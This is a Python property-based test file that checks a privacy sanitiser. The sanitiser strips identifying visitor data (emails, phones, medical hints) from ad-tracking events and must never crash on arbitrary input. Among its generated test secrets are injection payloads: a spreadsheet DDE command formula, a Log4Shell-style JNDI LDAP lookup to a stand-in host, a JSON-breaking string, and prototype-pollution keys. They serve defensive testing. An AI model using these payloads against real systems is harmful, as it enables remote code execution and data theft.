"""The first promise, with generated visits: what leaves is a function of the closed vocabulary and of nothing else."""

import base64
import json
import string
from typing import Any
from urllib.parse import quote

import pytest
from hypothesis import assume, given
from hypothesis import strategies as st

from airlock.policy import Policy
from tests.depth import examples
from tests.sanitizer.desk import Desk, bodies, reasons
from tests.sanitizer.visits import AUTHORIZATION, DAY, IDS, NOW, SITE, UUID, make_visit
from workbench.preview import Line, Result

QUARTER_START = NOW - NOW % 900_000
CLICKED = QUARTER_START - 3 * 3_600_000 + 1  # the first millisecond of its quarter hour
TERMS = json.dumps(
    {
        "recipients": ["meta"],
        "purposes": ["ad_measurement"],
        "information": ["email", "phone"],
        "signed_at": NOW - DAY,
        "expires_at": NOW + DAY,
        "template_sha256": "0" * 64,
    }
)

# --- what two visits may differ in ---

TEXT = st.text(st.characters(exclude_categories=["Cs"]), max_size=20)
SCALAR = (
    st.none() | st.booleans() | st.integers(-(10**20), 10**20) | st.floats(allow_nan=False, allow_infinity=False) | TEXT
)
FLAT = SCALAR | st.lists(SCALAR, max_size=2) | st.dictionaries(TEXT, SCALAR, max_size=2)
JSON = FLAT | st.lists(FLAT, max_size=2) | st.dictionaries(TEXT, FLAT, max_size=2)
KNOWN = {"event", "id", "url", "at", "consent", "gpc", "authorization", "click", "user", "value", "currency", "props"}
UNKNOWN = st.dictionaries(TEXT.filter(lambda key: key not in KNOWN), JSON, max_size=3)
PATH = st.lists(st.text(string.ascii_letters + string.digits + "-_~", min_size=1, max_size=12), max_size=3)
QUERY = st.lists(
    st.sampled_from(["utm_source=", "utm_term=botox", "q=", "email=robin%40mail.example", "id="]), max_size=3
)
HEADERS = st.dictionaries(
    st.sampled_from(["User-Agent", "Referer", "X-Forwarded-For", "Accept-Language", "DNT", "X-Real-Ip", "Via"]),
    st.text(string.ascii_letters + " ./;", max_size=20),
)


@st.composite
def renderings(draw: st.DrawFn, told: dict[str, Any]) -> tuple[dict[str, Any], dict[str, str], bool]:
    """One of the many visits that say the same in the closed vocabulary: a body, its headers, and if it is binary."""
    visit: dict[str, Any] = {key: value for key, value in draw(UNKNOWN).items() if key != "referrer"}
    visit["event"] = draw(st.sampled_from(["lead", "Lead", "generate_lead", "SubmitForm", "Booked CoolSculpting"]))
    visit["id"] = draw(st.sampled_from([UUID, UUID.upper()]))
    visit["at"] = QUARTER_START + draw(st.integers(1, NOW - QUARTER_START))
    visit["consent"] = {"marketing": True, "at": visit["at"] - draw(st.integers(0, 179 * DAY)), "analytics": draw(FLAT)}
    if draw(st.booleans()):
        visit["gpc"] = draw(st.sampled_from([False, None]))
    if told["value"] is not None:
        low, high = told["value"]
        visit["value"] = draw(st.integers(low, high - 1) | st.floats(low, high, exclude_max=True))
        visit["currency"] = draw(st.sampled_from(["USD", None]))
    visit["props"] = {"variant": draw(st.sampled_from(["a", "b", "c"])), "note": draw(FLAT)}
    if told["user"]:
        visit["user"] = {
            "email": draw(st.sampled_from(["robin@mail.example", " Robin@Mail.Example ", "ROBIN@MAIL.EXAMPLE\t"])),
            "phone": draw(st.sampled_from(["4155550132", "+1 (415) 555-0132", "415.555.0132", "1-415-555-0132"])),
            "first_name": draw(TEXT),
            "city": draw(FLAT),
        }
        visit["authorization"] = AUTHORIZATION
    query, click, kept = list(draw(QUERY)), {"at": CLICKED + draw(st.integers(0, 899_999))}, []
    for kind in told["clicks"]:
        match draw(
            st.sampled_from(["url", "click", "both"] if kind == "fbclid" else ["url", "click", "both", "cookie"])
        ):
            case "url":
                query.append(f"{kind}={draw(st.sampled_from([IDS[kind], quote(IDS[kind]).replace('_', '%5F')]))}")
            case "click":
                click[kind] = IDS[kind]
            case "both":
                query.append(f"{kind}={IDS[kind]}")
                click[kind] = draw(st.just(IDS[kind]) | FLAT)  # type: ignore[assignment]  # anything, for the url wins
            case _:
                kept.append(f"{kind}:{CLICKED}:{IDS[kind]}")
    visit["click"] = draw(st.permutations(list(click.items())).map(dict))
    path = "/".join(["/services", *draw(PATH)])
    visit["url"] = f"{SITE}{path}?{'&'.join(draw(st.permutations(query)))}#{draw(TEXT)}"
    headers = {"Origin": SITE, "Content-Type": draw(st.sampled_from(["application/json", "text/plain;charset=UTF-8"]))}
    cookies = [*draw(st.lists(st.sampled_from(["_ga=GA1.1.2", "_fbp=fb.1.2.3", "session=canary"]), max_size=2))]
    if kept:
        cookies.append(f"airlock_click={'|'.join(kept)}")
    if cookies:
        headers["Cookie"] = "; ".join(cookies)
    return draw(st.permutations(list(visit.items())).map(dict)), draw(HEADERS) | headers, draw(st.booleans())


@st.composite
def pairs(draw: st.DrawFn) -> list[tuple[dict[str, Any], dict[str, str], bool]]:
    told = {
        "value": draw(st.sampled_from([None, (0, 250), (250, 500), (500, 1000), (1000, 10**9)])),
        "user": draw(st.booleans()),
        "clicks": draw(st.sets(st.sampled_from(sorted(IDS)))),
    }
    return [draw(renderings(told)), draw(renderings(told))]


def tell(desk: Desk, visit: dict[str, Any], headers: dict[str, str], *, is_binary: bool) -> Result:
    text = json.dumps(visit, ensure_ascii=is_binary, indent=1 if is_binary else None)
    assume(len(text.encode()) <= 8192)
    body = {"body_base64": base64.b64encode(text.encode()).decode()} if is_binary else {"body": text}
    return desk.preview.run(Line(headers=headers, **body))  # type: ignore[arg-type]  # one of two fields of text


@given(pairs())
@examples(150, 20_000)
def test_visits_that_say_the_same_in_the_vocabulary_leave_as_the_same_bytes(
    policy: Policy, pair: list[tuple[dict[str, Any], dict[str, str], bool]]
) -> None:
    """Fields, headers, unknown keys, nesting, order, encodings, the second of the visit: none of it is seen outside."""
    desk = Desk(policy)
    assert desk.tell(TERMS, method="PUT", path=f"/v1/authorizations/{AUTHORIZATION}").status == 204
    seen = []
    for visit, headers, is_binary in pair:
        result = tell(desk, visit, headers, is_binary=is_binary)
        assert result.status == 204
        assert None not in reasons(result)
        seen.append((list(desk.queued), [(o.destination, o.outcome, o.reason, o.request) for o in result.outcomes]))
        desk.queued.clear()
    assert seen[0] == seen[1]


# --- what identifies somebody, made up on the spot ---

NAMES = st.sampled_from(["Robin", "Noor", "Ximena", "Ólafur", "Thuý", "Jean-Luc", "O'Neil"])
SECRETS = st.one_of(
    st.builds("{0}.zqxv{1}@mail.example".format, NAMES, st.integers(0, 99)),
    st.builds(
        "{0} zqxv, born {1}/{2}/19{3}, semaglutide".format, NAMES, *[st.integers(1, 12)] * 2, st.integers(40, 99)
    ),
    st.builds("zqxv MRN {0} botox 🩺".format, st.integers(10**6, 10**8)),
    st.builds("zqxv\n{0}\r\n\x1b[31m\x00{1}".format, NAMES, TEXT),
    st.builds("=cmd|'zqxv {0}'!A1".format, NAMES),
    st.builds("${{jndi:ldap://zqxv.example/{0}}}".format, NAMES),
    st.builds('"}},"event":"zqxv{0}"'.format, NAMES),
)
CANARY = "zqxv"
FREE = ["title", "referrer", "text", "utm", "patient", "source", "user_agent", "__proto__", "constructor"]
PLACES = st.sampled_from(
    [
        *[(key,) for key in FREE],
        *[("user", key) for key in ("email", "phone", "first_name", "zip", "date_of_birth", "external_id", "Email")],
        *[("props", key) for key in ("variant", "note", "treatment")],
        *[("click", key) for key in ("fbclid", "gclid", "ttclid", "at", "fbc", "note")],
        *[("consent", key) for key in ("note", "at", "marketing")],
        *[
            (key,)
            for key in ("event", "id", "url", "currency", "value", "at", "gpc", "authorization", "consent", "user")
        ],
        ("url", "path"),
        ("url", "query"),
        ("url", "fragment"),
        ("header", "user-agent"),
        ("header", "referer"),
        ("header", "cookie"),
        ("header", "x-forwarded-for"),
        ("header", "content-type"),
        ("header", "origin"),
        ("path", ""),
        ("body", ""),
        ("key", ""),
    ]
)


def plant(secret: str, places: list[tuple[str, ...]]) -> Line:
    """A request that holds the secret in each of these places."""
    visit = make_visit(value=700, props={"variant": "a"}, user={"email": "robin@mail.example"})
    headers = {"origin": SITE, "content-type": "application/json"}
    path, tail = "/v1/events", ""
    for place in places:
        match place:
            case ("url", "path"):
                visit["url"] = f"{SITE}/services/{quote(secret)}"
            case ("url", "query"):
                visit["url"] = f"{SITE}/services?fbclid={quote(secret)}&q={secret}"
            case ("url", "fragment"):
                visit["url"] = f"{SITE}/services#{secret}"
            case ("header", name):
                headers[name] = f"airlock_click=fbclid:{NOW}:{secret}" if name == "cookie" else secret
            case ("path", _):
                path = f"/v1/{secret}"
            case ("body", _):
                tail = secret
            case ("key", _):
                visit[secret] = {secret: secret}
            case (group, key):
                visit[group] = {**visit[group], key: secret} if isinstance(visit.get(group), dict) else {key: secret}
            case (key,):
                visit[key] = secret
    return Line(path=path, headers=headers, body=json.dumps(visit, ensure_ascii=len(secret) % 2 == 0) + tail)


@given(SECRETS, st.lists(PLACES, min_size=1, max_size=4, unique=True))
@examples(400, 50_000)
def test_what_identifies_somebody_never_appears_outside_wherever_it_is_planted(
    policy: Policy, capfd: pytest.CaptureFixture[str], secret: str, places: list[tuple[str, ...]]
) -> None:
    """Not in a queue, a request, a log line, an answer, on a screen, or in the repr of anything that is kept."""
    desk = Desk(policy)
    result = desk.preview.run(plant(secret, places))
    assert result.status == 204 or 400 <= result.status < 500
    printed = capfd.readouterr()
    left = [
        *(message.decode() for _, message in desk.queued),
        *(f"{outcome.request}" for outcome in result.outcomes if outcome.request),
        *result.logs,
        f"{result.answer}",
        printed.out,
        printed.err,
        repr(result.outcomes),
        repr(desk.preview._airlock.intake),
    ]
    assert [text for text in left if CANARY in text.lower()] == []
    assert "internal" not in reasons(result).values()


@given(st.text(max_size=300) | st.binary(max_size=300) | JSON.map(json.dumps))
@examples(300, 100_000)
def test_no_body_at_all_makes_the_airlock_stumble(policy: Policy, body: str | bytes) -> None:
    """Any bytes are answered 4xx, or 204 with the reason in the journal; never 5xx, never an exception."""
    result = Desk(policy).tell(body.encode("utf-8", "surrogatepass") if isinstance(body, str) else body)
    assert 400 <= result.status < 500
    assert bodies(result) == {}


@given(st.sampled_from(sorted(KNOWN)), JSON)
@examples(400, 100_000)
def test_no_value_in_any_field_makes_the_airlock_stumble(policy: Policy, field: str, value: Any) -> None:
    result = Desk(policy).tell(make_visit(**{field: value}))
    assert result.status == 204 or 400 <= result.status < 500
    assert "internal" not in reasons(result).values()
